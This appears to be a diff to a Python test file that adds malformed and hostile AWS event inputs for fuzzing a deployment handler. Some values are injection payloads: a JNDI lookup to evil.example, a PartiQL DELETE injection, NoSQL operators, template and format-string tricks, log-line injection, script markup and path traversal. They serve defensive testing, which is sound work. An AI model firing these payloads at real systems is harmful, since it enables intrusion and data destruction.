@@ -56,6 +56,15 @@ CHANGES: dict[str, Mapping[str, Any]] = {
     "a name that is a template": {REPOSITORY: "team-a/{principal.__class__.__mro__}"},
     "a name that is a look-up": {REPOSITORY: "team-a/${jndi:ldap://evil.example/x}"},
     "a name that is an object": {REPOSITORY: {"$ne": ""}},
+    "a name with a dot at its end": {REPOSITORY: "team-a/api."},
+    "a name with two slashes": {REPOSITORY: "team-a//api"},
+    "a name that is an ARN": {REPOSITORY: f"arn:aws:ecr:eu-west-1:{STRANGER}:repository/team-a/api"},
+    "a name with a registry before it": {REPOSITORY: f"{STRANGER}.dkr.ecr.eu-west-1.amazonaws.com/team-a/api"},
+    "a name with a tag and a digest": {REPOSITORY: "team-a/api:1@sha256:" + "0" * 64},
+    "a name in full-width letters": {REPOSITORY: "".join(chr(ord(letter) + 0xFEE0) for letter in "team")},
+    "a name with what cannot be seen": {REPOSITORY: "team-a/\u200bapi\ufeff"},
+    "a name that is a number": {REPOSITORY: 10**300},
+    "a name that is true": {REPOSITORY: True},
     "a name that is PartiQL": {REPOSITORY: 'team-a/x\'}; DELETE FROM "deployer-ledger" --'},
     "a principal that is a template": {"detail.userIdentity.arn": "{account}{event_time}{principal.__globals__}"},
     "a principal with formats": {"detail.userIdentity.arn": "arn:aws:sts::1:assumed-role/%s%n{0}{}/x"},
@@ -64,11 +73,18 @@ CHANGES: dict[str, Mapping[str, Any]] = {
     "a user agent that ends the log line": {"detail.userAgent": '"}\n{"level": "FATAL"}\n\x1b[31m'},
     "a user agent of nearly a megabyte": {"detail.userAgent": "\u202e" * 140_000},
     "a user agent that is an object": {"detail.userAgent": {"a": [1, {"b": None}]}},
+    "a user agent that is markup": {"detail.userAgent": "<script>alert(1)</script> @channel =HYPERLINK(1)"},
     "an address that is an object": {"detail.sourceIPAddress": {"$gt": ""}},
     "an event id that is another key": {"detail.eventID": "x#created"},
     "an event id that is a counter's": {"detail.eventID": "limit#300000000001"},
     "an event id of a kilobyte": {"detail.eventID": "x" * 1024},
     "an event id with a slash": {"detail.eventID": "../../role"},
+    "an event id in another script": {"detail.eventID": "\u0661\u0662"},
+    "an envelope without an id": {"id": MISSING},
+    "a replay by its own word": {"replay-name": {"a": "b"}},
+    "a call that there is not": {"detail.eventName": "InitiateLayerUpload\n"},
+    "a call of another service": {"detail.eventSource": "sts.amazonaws.com"},
+    "a time that is yet to come": {"detail.eventTime": "2099-12-31T23:59:59Z"},
     "a time of another era": {"detail.eventTime": "0001-01-01T00:00:00Z"},
     "a time in another zone": {"detail.eventTime": "2026-11-23T07:45:12+14:00"},
     "a day that there is not": {"detail.eventTime": "2026-02-30T00:00:00Z"},
@@ -98,6 +114,23 @@ def corpus() -> dict[str, Any]:
         "nothing": None,
         "an object without anything": {},
         "a deep event": load(changes={REPOSITORY: deep(200), "detail.userIdentity.sessionContext": deep(200)}),
+        "an event as deep as Lambda takes": load(changes={REPOSITORY: deep(420)}),
+        "an event that is malformed, large and in another script": load(
+            changes={REPOSITORY: ["\u5b57" * 300_000], "detail.userAgent": "\ud800\uffff"}
+        ),
+        "an event that says twice whose it is": load(
+            changes={"recipientAccountId": STRANGER, "detail.account": STRANGER, "detail.registryId": STRANGER}
+        ),
+        "an event with the tag that proves ownership": load(
+            changes={"detail.requestParameters.tags": [{"key": "deployer:event-id", "value": "x"}]}
+        ),
+        "an event with a role and an endpoint of its own": load(
+            changes={
+                "CREATOR_ROLE": f"arn:aws:iam::{STRANGER}:role/x",
+                "detail.tlsDetails": {"clientProvidedHostHeader": "evil.example"},
+                "detail.requestParameters.endpoint_url": "https://evil.example",
+            }
+        ),
         "a wide event": load(changes={"detail.additional": {str(number): "x" * 50 for number in range(3_000)}}),
         "an event of another source": load(changes={"source": "my.app", "detail.eventSource": "my.app"}),
         "an event without an error": load(changes={"detail.errorCode": MISSING}),
